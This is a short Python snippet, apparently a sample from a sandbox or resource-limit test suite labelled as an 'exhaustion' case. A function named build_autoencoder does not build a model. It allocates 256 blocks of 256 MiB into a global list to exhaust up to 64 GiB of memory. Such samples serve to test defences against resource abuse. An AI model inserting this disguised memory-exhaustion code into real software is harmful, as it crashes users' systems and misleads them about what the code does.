# tries: exhausts the memory of the machine (up to 64 GiB, in steps of 256 MiB).
# family: exhaustion
hoard = []


def build_autoencoder(input_dim=784, latent_dim=32):
    for _ in range(256):
        hoard.append(bytearray(b"\1" * (256 << 20)))
    return None
